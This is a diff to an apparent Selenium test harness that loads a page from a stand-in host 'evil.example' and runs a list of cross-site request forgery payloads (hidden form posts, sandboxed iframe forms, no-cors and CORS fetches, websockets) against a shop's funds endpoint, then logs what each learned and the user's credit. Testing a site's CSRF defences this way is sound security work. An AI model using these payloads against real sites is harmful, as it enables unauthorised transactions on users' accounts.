@@ -8,9 +8,11 @@ attack: its name, and what the page learned; nothing else says whether it had an
 
 import json
 import sys
+import time
+import urllib.parse
+import urllib.request
 
 from selenium import webdriver
-from selenium.common.exceptions import WebDriverException
 from selenium.webdriver.chrome.service import Service
 
 EVIL, TARGET, USER, ITEM = sys.argv[1:5]
@@ -25,7 +27,7 @@ FROM_A_FOREIGN_PAGE = {
     "a form in a new window": "post(shop + funds, '_blank'); setTimeout(() => done(null), 300)",
     "a form without an origin": """
         let f = document.createElement('iframe'); f.sandbox = 'allow-forms allow-scripts';
-        f.srcdoc = `<form method=post action="${shop + funds}"></form><script>document.forms[0].submit()</script>`;
+        f.srcdoc = `<form method=post action="${shop + funds}"></form><script>document.forms[0].submit()<\\/script>`;
         document.body.append(f); setTimeout(() => done(null), 500)""",
     "fetch without cors": "fetch(shop + funds, {method: 'POST', mode: 'no-cors'}).then(r => done(r.status || null), () => done(null))",
     "fetch with cors": "fetch(shop + funds, {method: 'POST'}).then(r => r.text()).then(done, () => done(null))",
@@ -42,7 +44,6 @@ FROM_A_FOREIGN_PAGE = {
         w.onopen = () => done('open'); w.onerror = () => done(null)""",
 }
 HELP = """
-    const [shop, funds, found, done] = arguments;
     function frame(name) { let f = document.createElement('iframe'); f.name = name; document.body.append(f) }
     function post(url, target) {
         let f = document.createElement('form'); f.method = 'POST'; f.action = url; f.target = target;
@@ -63,25 +64,36 @@ def browser():
 
 
 def run(driver, script):
-    try:
-        return driver.execute_async_script(HELP + script, SHOP, FUNDS, FOUND)
-    except WebDriverException as error:
-        # A form that replaces the page ends its script.
-        return None if "script" in str(error).lower() else str(error)
+    """Runs a script in the page that is shown."""
+    return driver.execute_async_script(f"const [shop, funds, found, done] = arguments; {script}", SHOP, FUNDS, FOUND)
+
+
+def attack(driver, script, host="evil.example"):
+    """Has a foreign page run a script of its own. (A script of the driver's would go on in the page that a form leads to.)"""
+    words = [json.dumps(word) for word in (SHOP, FUNDS, FOUND)]
+    own = f"const [shop, funds, found] = [{', '.join(words)}]; const done = value => {{ window.learned = [value] }}; {HELP} {script}"
+    driver.get(f"http://{host}:{EVIL}/?{urllib.parse.quote(own)}")
+    until = time.monotonic() + 2
+    while time.monotonic() < until:
+        learned = driver.execute_script("return window.learned || null")
+        if learned:
+            return learned[0]
+        time.sleep(0.05)
+    return None
 
 
 def tell(name, learned):
-    print(json.dumps({"attack": name, "learned": learned}), flush=True)
+    with urllib.request.urlopen(f"{SHOP}/payment/find_user/{USER}") as answer:
+        credit = json.load(answer)["credit"]
+    print(json.dumps({"attack": name, "learned": learned, "credit": credit}), flush=True)
 
 
 def main():
     driver = browser()
     try:
         for name, script in FROM_A_FOREIGN_PAGE.items():
-            driver.get(f"http://evil.example:{EVIL}/")
-            tell(name, run(driver, script))
-        driver.get(f"http://127.0.0.1:{EVIL}/")
-        tell("fetch of another port", run(driver, FROM_A_FOREIGN_PAGE["fetch without cors"]))
+            tell(name, attack(driver, script))
+        tell("fetch of another port", attack(driver, FROM_A_FOREIGN_PAGE["fetch without cors"], host="127.0.0.1"))
         driver.get(f"http://evil.example:{EVIL}/")
         driver.execute_script("let f = document.createElement('iframe'); f.src = arguments[0]; document.body.append(f)", SHOP + "/docs")
         driver.switch_to.frame(0)
